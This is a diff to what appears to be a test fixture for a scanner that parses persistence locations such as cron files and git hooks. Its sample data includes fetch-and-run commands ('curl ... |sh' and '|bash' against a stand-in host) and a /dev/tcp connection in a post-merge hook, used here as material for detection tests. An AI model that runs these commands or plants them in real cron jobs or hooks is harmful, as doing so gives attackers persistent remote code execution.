@@ -38,6 +38,12 @@ FILES = [
         (1, b"nohup /opt/x >/dev/null 2>&1 &", [X, b"nohup"]), (2, b"nonsense", [])]),
     (b"/var/spool/cron/root", b"*/5 * * * * curl -s http://192.0.2.1/x|bash\n", [(1, b"curl -s http://192.0.2.1/x|bash", [b"curl", b"bash"])]),
     (b"/etc/cron.d/x", b"* * * * * root /opt/x", [(1, b"/opt/x", [X])]),
+    (b"/etc/cron.hourly/x", b"#!/bin/sh\n# curl\nset -e\ncurl -s http://192.0.2.1/x|sh\nexit 0\n", [
+        (None, b"/etc/cron.hourly/x", [b"/etc/cron.hourly/x"]), (4, b"curl -s http://192.0.2.1/x|sh", [b"curl", b"sh"])]),
+    (b"/etc/cron.daily/x", b"\x7fELF\ncurl\n", [(None, b"/etc/cron.daily/x", [b"/etc/cron.daily/x"])]),
+    (b"/srv/repo/.git/hooks/post-merge", b"#!/bin/sh\nexec 3<>/dev/tcp/192.0.2.1/80\n", [
+        (None, b"/srv/repo/.git/hooks/post-merge", [b"/srv/repo/.git/hooks/post-merge"]),
+        (2, b"exec 3<>/dev/tcp/192.0.2.1/80", [b"exec"])]),
     (b"/etc/anacrontab", b"RANDOM_DELAY=4\n1 5 cron.daily nice run-parts /etc/cron.daily\n", [
         (2, b"nice run-parts /etc/cron.daily", [b"/etc/cron.daily", b"run-parts", b"nice"])]),
     (b"/var/spool/incron/root", b"/etc IN_MODIFY /opt/x $@\n", [(1, b"/opt/x $@", [X])]),
